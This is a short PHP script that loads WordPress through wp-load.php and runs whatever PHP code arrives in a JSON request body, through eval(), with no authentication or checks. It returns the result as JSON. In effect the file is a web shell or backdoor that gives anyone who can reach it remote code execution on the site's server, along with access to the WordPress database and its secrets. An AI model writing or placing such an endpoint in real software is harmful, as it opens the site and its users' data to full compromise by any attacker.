<?php
// Runs the PHP that is posted inside the blog, and prints what it returns as JSON.
require __DIR__ . '/wp-load.php';
$asked = json_decode( file_get_contents( 'php://input' ), true );
$given = $asked['given'];
echo json_encode( eval( $asked['php'] ) );
